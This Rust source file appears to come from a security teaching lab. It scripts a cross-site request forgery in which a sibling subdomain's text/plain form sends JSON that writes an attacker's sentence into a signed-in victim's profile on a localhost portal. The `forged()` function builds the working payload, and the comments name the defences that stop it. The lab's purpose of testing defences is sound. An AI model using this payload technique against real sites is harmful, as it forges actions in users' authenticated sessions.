//! JSON that a form sends as `text/plain`. Worksheet 14.
//!
//! Start: the attacker controls the sibling. The victim is signed in, and the portal has a JSON
//! API.
//!
//! Why it works: the API reads whatever parses, and believes that only its own pages send JSON. A
//! browser sends the three types of HTML forms to any origin without asking. `text/plain` is one of
//! them, and its text can be JSON.
//!
//! Proof: the victim's own profile contains the attacker's sentence.
//!
//! Stopped by `json-only`, by `csrf-token` and by `request-origin`, each alone: defence in depth.
//! Not stopped by `cors`: the form never asks for permission, so there is no preflight to refuse.
//! Not by `same-site`: the sibling is the same site.
//!
//! Refused for this program: a `fetch` with `application/json`. The browser asks the portal first
//! (a preflight), and the answer is the business of `cors`. A form of the type
//! `application/x-www-form-urlencoded` was refused because its encoding breaks the JSON.
//!
//! Source: ASVS 3.5.2 (no call may be possible without the preflight that an API relies on),
//! CWE-352, CWE-346, WSTG-SESS-05. Read `src/defences/json_only.rs` next.

use async_trait::async_trait;

use super::scenario::{Scenario, ScenarioError, VICTIM};
use super::{Attack, Card, Engine, Outcome};
use crate::client::caller::Call;
use crate::defences::policy::Name;

pub(super) struct TextPlainJson;

/// What the attacker writes into the victim's profile.
const CLAIM: &str = "I owe mallory 100";

const CARD: Card = Card {
    name: "text-plain-json",
    title: "JSON from a form of another page",
    engine: Engine::Http,
    victim: "Signed in at portal.localhost, opens a page of the sibling notes.portal.localhost.",
    means: "The attacker controls the sibling. A form on its page has enctype=\"text/plain\", and \
            its only field is named and filled so that name=value is a JSON object. Chromium, \
            Firefox and Safari send it without asking the portal first, with the victim's cookies, \
            the sibling's Origin and Sec-Fetch-Site: same-site.",
    evidence: "The victim's own profile says what the attacker wrote.",
    stopped_by: &[
        &[Name::JsonOnly],
        &[Name::CsrfToken],
        &[Name::RequestOrigin],
    ],
    when_stopped: "The portal refused a body that does not call itself JSON, a request without the \
                   token, or one that another origin sent.",
    shows: &["CSRF-CT", "CSRF-ORIGIN", "CSRF-SIBLING"],
    standards: &["ASVS 3.5.2", "CWE-346", "CWE-352", "WSTG-SESS-05"],
};

#[async_trait]
impl Attack for TextPlainJson {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        scenario.narrate("The victim signs in.");
        let mut victim = scenario.actor_beside_sibling("victim");
        victim.sign_in(VICTIM).await?;

        // An API for JSON often has no CSRF check, because a form cannot send `application/json`,
        // and a script that does must ask first (a CORS preflight). But a form can send
        // `text/plain`, without asking, and its text can be valid JSON.
        scenario.narrate("The victim opens the sibling's page, and the form on it submits itself.");
        // `json-only` refuses the type, so the browser's own rule protects the API. `csrf-token`
        // refuses because a JSON request carries its token in the header `X-CSRFToken`, and a form
        // cannot set a header. `request-origin` reads the sibling's Origin. Each alone is enough;
        // together they survive a mistake in one.
        let refusal = victim.post_from_sibling(forged()).await?;

        scenario.narrate("The victim looks at the profile.");
        // The answer to the forged request is not the evidence: a browser does not let the sibling
        // read it, and the attacker does not need it. The stored profile is.
        let profile = victim.get("/api/profile").await?;
        Ok(if profile.body.contains(CLAIM) {
            Outcome::Succeeded(format!("The victim's profile says: {CLAIM}."))
        } else {
            let status = refusal.status;
            Outcome::Stopped(format!("{} It answered {status}.", CARD.when_stopped))
        })
    }
}

/// What a browser makes of the form: `name=value` and a line break, with nothing encoded. The
/// field's name opens the object and its value closes it, so that the `=` between them ends up in a
/// member that nobody reads. A JSON parser has no reason to complain.
fn forged() -> Call {
    let (name, value) = (format!("{{\"about_me\":\"{CLAIM}\",\"ignored\":\""), "\"}");
    let call = Call {
        method: "POST",
        path: "/api/profile".into(),
        body: format!("{name}={value}\r\n"),
        ..Call::default()
    };
    call.with("content-type", "text/plain")
}
